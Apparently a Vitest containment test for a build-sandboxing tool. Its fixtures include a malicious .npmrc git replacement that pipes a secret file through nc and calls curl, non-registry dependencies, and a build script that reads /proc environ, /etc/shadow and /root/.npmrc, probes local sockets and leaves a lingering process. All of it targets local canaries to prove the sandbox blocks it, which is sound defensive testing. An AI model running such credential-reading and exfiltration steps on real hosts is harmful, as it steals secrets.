import { execSync, spawn } from 'node:child_process';
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, readResults, runCli, tmpDir, writeFiles } from '../helpers.js';

// Red-team classes of issue 19 points 1–3 for project candidates: hostile .npmrc files, non-registry
// dependencies, and a build that reaches for the host (a Unix socket under /tmp, a TCP and a UDP port, an
// environment secret, a root-only file, folders outside its copy). A canary listens on each channel; Cookie's
// registry is a local fake registry (real wire format: packument + tarball), so no test needs the internet.

const SECRET = `cookie-canary-secret-${crypto.randomBytes(6).toString('hex')}`;
const FILE_SECRET = `cookie-root-only-${crypto.randomBytes(6).toString('hex')}`;
const hits = { tcp: 0, udp: 0, unix: 0, registry: 0 };
let tcp: http.Server;
let udp: dgram.Socket;
let unix: net.Server;
let registry: http.Server;
let tcpPort = 0;
let udpPort = 0;
let regPort = 0;
let unixPath = '';
let rootOnly = '';
let base = '';

/** A one-file npm package as a .tgz (tar's `package/` prefix), built with the system tar. */
function tarball(dir: string): Buffer {
  writeFiles(dir, {
    'package/package.json': JSON.stringify({ name: 'cookie-fixture-dep', version: '1.0.0', main: 'index.js' }),
    'package/index.js': "module.exports = 'fixture dependency loaded';\n",
  });
  execSync('tar czf dep.tgz package', { cwd: dir });
  return fs.readFileSync(path.join(dir, 'dep.tgz'));
}

beforeAll(async () => {
  base = tmpDir('cookie-contain-');
  tcp = http.createServer((_q, r) => (hits.tcp++, r.end('canary')));
  tcp.on('connection', () => hits.tcp++);
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  tcpPort = (tcp.address() as net.AddressInfo).port;
  udp = dgram.createSocket('udp4');
  udp.on('message', () => hits.udp++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
  unixPath = path.join('/tmp', `cookie-canary-${process.pid}-${Date.now()}.sock`);
  unix = net.createServer((c) => (hits.unix++, c.destroy()));
  await new Promise<void>((r) => unix.listen(unixPath, r));
  fs.chmodSync(unixPath, 0o777); // world-writable: any local user may connect
  const secretDir = path.join(base, 'root-only');
  fs.mkdirSync(secretDir, { mode: 0o755 });
  rootOnly = path.join(secretDir, 'secret.txt');
  fs.writeFileSync(rootOnly, FILE_SECRET, { mode: 0o600 });
  const tgz = tarball(path.join(base, 'pkg'));
  registry = http.createServer((q, r) => {
    hits.registry++;
    const origin = `http://127.0.0.1:${regPort}`;
    // through an HTTP proxy requests arrive in absolute form (RFC 9112 §3.2.2), which a server must accept
    const url = new URL(q.url ?? '/', origin).pathname;
    if (url === '/cookie-fixture-dep') {
      r.setHeader('content-type', 'application/json');
      r.end(
        JSON.stringify({
          name: 'cookie-fixture-dep',
          'dist-tags': { latest: '1.0.0' },
          versions: {
            '1.0.0': { name: 'cookie-fixture-dep', version: '1.0.0', dist: { tarball: `${origin}/cookie-fixture-dep/-/cookie-fixture-dep-1.0.0.tgz`, integrity: `sha512-${crypto.createHash('sha512').update(tgz).digest('base64')}` } },
          },
        }),
      );
    } else if (url === '/cookie-fixture-dep/-/cookie-fixture-dep-1.0.0.tgz') r.end(tgz);
    else (r.statusCode = 404), r.end('{}');
  });
  await new Promise<void>((r) => registry.listen(0, '127.0.0.1', r));
  regPort = (registry.address() as net.AddressInfo).port;
});

afterAll(() => {
  tcp?.close();
  udp?.close();
  unix?.close();
  registry?.close();
  fs.rmSync(unixPath, { force: true });
});

/** What a hostile build tries; each attempt's outcome ends up in the built page (so in the evidence). */
function hostileBuild(outside: string, marker: string): string {
  return `const fs = require('fs'), net = require('net'), dgram = require('dgram'), cp = require('child_process');
const out = [];
const note = (k, v) => out.push(k + ': ' + v);
(async () => {
  note('uid', process.getuid());
  note('dependency', require('cookie-fixture-dep'));
  let leaked = 'clean';
  for (const pid of fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d))) { try { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes('COOKIE_CANARY_SECRET')) leaked = 'LEAKED ' + pid; } catch {} }
  note('proc environ', leaked);
  note('env secret', process.env.COOKIE_CANARY_SECRET || 'absent');
  for (const f of [${JSON.stringify(rootOnly)}, '/etc/shadow', '/root/.npmrc']) { try { note('read ' + f, fs.readFileSync(f, 'utf8')); } catch (e) { note('read ' + f, e.code); } }
  for (const f of [${JSON.stringify(path.join(outside, 'escaped.txt'))}, '/tmp/cookie-escaped-${marker}', '/usr/cookie-escaped']) { try { fs.writeFileSync(f, 'x'); note('write ' + f, 'written (inside its own view)'); } catch (e) { note('write ' + f, e.code); } }
  for (const d of ['/run', '/var/run', '/home', '/root']) { try { note('list ' + d, fs.readdirSync(d).join(',')); } catch (e) { note('list ' + d, e.code); } }
  const tryConnect = (o) => new Promise((res) => { const s = net.connect(o, () => { s.write('hello'); s.end(); res('CONNECTED'); }); s.on('error', (e) => res(e.code)); setTimeout(() => res('no answer'), 3000); });
  note('unix socket', await tryConnect({ path: ${JSON.stringify(unixPath)} }));
  note('tcp canary', await tryConnect({ host: '127.0.0.1', port: ${tcpPort} }));
  note('registry from the build', await tryConnect({ host: '127.0.0.1', port: ${regPort} }));
  note('udp canary', await new Promise((res) => { const u = dgram.createSocket('udp4'); u.send('ping', ${udpPort}, '127.0.0.1', (e) => (u.close(), res(e ? e.code : 'sent'))); }));
  // a process that tries to outlive the build
  cp.spawn('node', ['-e', 'setInterval(() => {}, 1000)', ${JSON.stringify(marker)}], { detached: true, stdio: 'ignore' }).unref();
  note('env', Object.keys(process.env).filter((k) => !k.startsWith('npm_')).sort().join(','));
  fs.mkdirSync('dist', { recursive: true });
  fs.writeFileSync('dist/index.html', '<!DOCTYPE html><html lang="en"><head><title>Build report</title></head><body><h1>What the build could do</h1><ul>' + out.map((l) => '<li>' + l.replace(/</g, '&lt;') + '</li>').join('') + '</ul></body></html>');
})();
`;
}

const spec = (names: string[]) =>
  `query:\n  id: q\n  prompt: A page that reports what its build did.\n  language: en\n  kind: static\ncandidates:\n${names.map((n) => `  - { name: ${n}, mode: react, path: ${n} }`).join('\n')}\n`;

/** Every file under `dir` (the whole output folder), as bytes. */
function allBytes(dir: string): { file: string; bytes: Buffer }[] {
  const out: { file: string; bytes: Buffer }[] = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const p = path.join(e.parentPath, e.name);
    if (e.isFile()) out.push({ file: p, bytes: fs.readFileSync(p) });
  }
  return out;
}

describe('project containment (issue 19 points 1–3)', () => {
  it('hostile .npmrc files, non-registry dependencies and a build reaching for the host: 0 canary hits, no secret in any output byte, refusals named, no process left', async () => {
    const dir = path.join(base, 'run');
    const marker = `cookie-outlive-${process.pid}-${Date.now()}`;
    const canary = `http://127.0.0.1:${tcpPort}`;
    const evilGit = `#!/bin/sh\nenv > /tmp/evil-git-env; cat ${rootOnly} | nc -U ${unixPath}; curl -s ${canary}/evil-git\n`;
    writeFiles(dir, {
      // 1. issue 19's first finding: .npmrc `git=./evil-git` plus a git+http optional dependency
      'evilgit/package.json': JSON.stringify({ name: 'evilgit', version: '1.0.0', private: true, scripts: { build: 'node build.js' }, optionalDependencies: { 'x-widget': `git+http://127.0.0.1:${tcpPort}/x.git` } }),
      'evilgit/.npmrc': `git=./evil-git\nlegacy-peer-deps=true\n`,
      'evilgit/evil-git': evilGit,
      'evilgit/build.js': 'require("fs").mkdirSync("dist");require("fs").writeFileSync("dist/index.html","<h1>evil</h1>");',
      // 2. a tarball-URL dependency, and a lockfile resolving a registry name to a canary
      'tarball/package.json': JSON.stringify({ name: 'tarball', version: '1.0.0', private: true, scripts: { build: 'node build.js' }, optionalDependencies: { 'fancy-charts': `${canary}/fancy-charts-1.0.0.tgz` } }),
      'tarball/build.js': 'require("fs").mkdirSync("dist");require("fs").writeFileSync("dist/index.html","<h1>t</h1>");',
      'locked/package.json': JSON.stringify({ name: 'locked', version: '1.0.0', private: true, scripts: { build: 'node build.js' }, dependencies: { 'left-pad': '^1.3.0' } }),
      'locked/package-lock.json': JSON.stringify({ name: 'locked', lockfileVersion: 3, requires: true, packages: { '': { name: 'locked', dependencies: { 'left-pad': '^1.3.0' } }, 'node_modules/left-pad': { version: '1.3.0', resolved: `${canary}/left-pad-1.3.0.tgz`, integrity: 'sha512-AAAA' } } }),
      'locked/build.js': 'require("fs").mkdirSync("dist");require("fs").writeFileSync("dist/index.html","<h1>l</h1>");',
      // 3. a project whose .npmrc names a canary as its registry (and a proxy, a cache and a git binary),
      // with a real registry dependency and a hostile build
      'hostile/package.json': JSON.stringify({ name: 'hostile', version: '1.0.0', private: true, scripts: { build: 'node build.js' }, dependencies: { 'cookie-fixture-dep': '^1.0.0' } }),
      'hostile/.npmrc': `registry=${canary}/\nhttps-proxy=${canary}/\nproxy=${canary}/\ngit=./evil-git\ncache=/tmp/evil-cache\nlegacy-peer-deps=true\n`,
      'hostile/evil-git': evilGit,
      'hostile/build.js': hostileBuild(dir, marker),
      's.cookie.yaml': spec(['evilgit', 'tarball', 'locked', 'hostile']),
      // an npm cache of its own: with the shared one, a packument cached by an earlier run whose fake registry
      // had the same port is taken without asking (Cookie installs with --prefer-offline), and the registry
      // sees no request (a CI run failed on `hits.registry` so)
      'cookie.config.ts': `export default { agent: { steps: 2 }, concurrency: 2, recording: { video: false, audio: false }, npmCache: ${JSON.stringify(path.join(base, 'npm-cache'))} };\n`,
    });
    fs.chmodSync(path.join(dir, 'evilgit', 'evil-git'), 0o755);
    fs.chmodSync(path.join(dir, 'hostile', 'evil-git'), 0o755);
    const r = await runCli(['test', '.'], { cwd: dir, env: { COOKIE_CANARY_SECRET: SECRET, npm_config_registry: `http://127.0.0.1:${regPort}/` } });
    const results = readResults(path.join(dir, 'cookie-results'));
    const by = (n: string) => results.evaluations.find((e) => e.candidate === n)!;

    // the dependency refusals: build-failed, the cause naming the dependency and why
    expect(by('evilgit')).toMatchObject({ status: 'build-failed', build: { step: 'install', cause: 'refused-dependency' } });
    expect(by('evilgit').build!.summary).toMatch(/x-widget in optionalDependencies: git\+http:\/\/.* is a git repository/);
    expect(by('tarball').build!.summary).toMatch(/fancy-charts in optionalDependencies: .* is a tarball URL over plain http/);
    expect(by('locked')).toMatchObject({ status: 'build-failed', build: { cause: 'refused-dependency' } });
    expect(by('locked').build!.summary).toMatch(/left-pad in package-lock.json: .* is plain http, not the registry/);

    // the hostile project installed from Cookie's registry (not the .npmrc's) and built; its page reports
    const hostile = by('hostile');
    expect(hostile.status, JSON.stringify(hostile.error ?? hostile.build)).toBe('scored');
    const ev = JSON.parse(fs.readFileSync(path.join(dir, 'cookie-results', hostile.evidenceDir, 'evidence.json'), 'utf8'));
    const text: string = ev.static.inventory.textSample;
    expect(text).toContain('dependency: fixture dependency loaded');
    expect(text).toContain('uid: 65534');
    expect(text).toContain('proc environ: clean');
    expect(text).toContain('env secret: absent');
    expect(text).toMatch(/read \/\S+secret\.txt: ENOENT/); // the host's /tmp is not there
    expect(text).toMatch(/read \/etc\/shadow: ENOENT/);
    expect(text).toMatch(/read \/root\/\.npmrc: ENOENT/);
    expect(text).toMatch(/unix socket: ENOENT/);
    expect(text).toMatch(/tcp canary: (ECONNREFUSED|ENETUNREACH)/);
    expect(text).toMatch(/registry from the build: (ECONNREFUSED|ENETUNREACH)/);
    expect(text).toMatch(/write \/usr\/cookie-escaped: (EROFS|EACCES)/);
    for (const d of ['/run', '/var/run', '/home', '/root']) expect(text).toContain(`list ${d}: ENOENT`);
    expect(ev.deploy.steps.map((s: { sandbox: string }) => s.sandbox)).toEqual([expect.stringMatching(/^bwrap\(uid 65534.*registry proxy\)$/), expect.stringMatching(/^bwrap\(uid 65534.*network: none\)$/)]);
    expect(hits.registry).toBeGreaterThan(0); // npm did install, through the proxy, from the configured registry

    // nothing reached a canary, nothing was written outside a copy, nothing outlived the run
    expect(hits).toMatchObject({ tcp: 0, udp: 0, unix: 0 });
    expect(fs.existsSync(path.join(dir, 'escaped.txt'))).toBe(false);
    expect(fs.existsSync(`/tmp/cookie-escaped-${marker}`)).toBe(false);
    expect(fs.existsSync('/tmp/evil-git-env')).toBe(false);
    expect(fs.existsSync('/tmp/evil-cache')).toBe(false);
    expect(execSync(`pgrep -f '[${marker[0]}]${marker.slice(1)}' || true`, { encoding: 'utf8' }).trim()).toBe('');
    for (const n of ['evilgit', 'hostile']) expect(fs.existsSync(path.join(dir, n, 'node_modules'))).toBe(false); // the candidate's own folder is untouched

    // neither secret in any byte Cookie wrote, nor in what it printed
    for (const { file, bytes } of [...allBytes(path.join(dir, 'cookie-results')), { file: 'stdout', bytes: Buffer.from(r.stdout + r.stderr) }]) {
      expect(bytes.includes(SECRET), file).toBe(false);
      expect(bytes.includes(FILE_SECRET), file).toBe(false);
    }
  });

  it('SIGTERM while a page hangs the renderer ends the run promptly with 143, keeping the finished evaluation', async () => {
    const dir = path.join(base, 'hang');
    writeFiles(dir, {
      'first.html': '<!DOCTYPE html><html lang="en"><body><h1>Rechner</h1><button onclick="this.textContent++">0</button></body></html>',
      'hang.html': '<!DOCTYPE html><html lang="en"><body><h1>Loading…</h1><script>setTimeout(() => { for (;;) {} }, 50);</script></body></html>',
      's.cookie.yaml': `query:\n  id: q\n  prompt: A counter.\n  language: en\n  kind: static\ncandidates:\n  - { name: first, mode: html, path: first.html }\n  - { name: hang, mode: html, path: hang.html }\n`,
      'cookie.config.ts': 'export default { agent: { steps: 2 }, concurrency: 1, recording: { video: false, audio: false } };\n',
    });
    const child = spawn(process.execPath, [BIN, 'test', '.'], { cwd: dir, stdio: 'ignore' });
    const exited = new Promise<number | null>((r) => child.on('exit', (c) => r(c)));
    const results = path.join(dir, 'cookie-results', 'results.json');
    const finished = () => (fs.existsSync(results) ? readResults(path.join(dir, 'cookie-results')).evaluations.length : 0);
    // once the first evaluation is stored, the hanging page is the one in flight
    while (finished() < 1 && child.exitCode === null) await new Promise((r) => setTimeout(r, 200));
    expect(child.exitCode).toBe(null);
    const browsers = execSync(`pgrep -P ${child.pid} || true`, { encoding: 'utf8' }).trim().split('\n').filter(Boolean).map(Number);
    child.kill('SIGTERM');
    expect(await exited).toBe(143);
    const run = readResults(path.join(dir, 'cookie-results'));
    expect(run.evaluations.map((e) => e.candidate)).toEqual(['first']);
    for (const pid of browsers) expect(fs.existsSync(`/proc/${pid}`) && !/^State:\s+Z/m.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8')), `child ${pid} of Cookie still alive`).toBe(false);
  });
});
